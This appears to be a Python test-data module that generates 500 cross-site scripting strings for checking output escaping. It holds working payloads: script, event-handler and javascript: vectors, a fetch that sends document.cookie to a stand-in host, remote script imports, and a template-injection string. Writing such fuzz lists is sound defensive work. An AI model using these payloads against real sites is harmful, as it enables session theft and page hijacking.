"""Five hundred texts that become markup, script or a link wherever one place forgets to escape them."""

from itertools import product
from typing import Final

_ACTIONS: Final = (
    "window.stolen=1",
    "fetch(`//evil.example/`+document.cookie)",
    "top.location=`//evil.example`",
    "document.title=`stolen`",
    "import(`//evil.example/x.js`)",
)
_VECTORS: Final = (
    "<script>{}</script>",
    "<script src=//evil.example/x.js>/*{}*/</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><rect width=9 height=9 /></a></svg>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<a href='javascript:{}'>press</a>",
    "<form action='javascript:{}'><button>press</button></form>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<style>*{{background:url(//evil.example)}}/*{}*/</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/{}'>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{ cycler.__init__.__globals__ }}}}{{% raw %}}${{{}}}",
    "javascript:{}",
)
_BREAKOUTS: Final = ("", '">', "'>", "</title></style></textarea></pre></code>", "--></script>")

PAYLOADS: Final = tuple(
    before + vector.format(action) for before, vector, action in product(_BREAKOUTS, _VECTORS, _ACTIONS)
)
assert len(set(PAYLOADS)) == 500
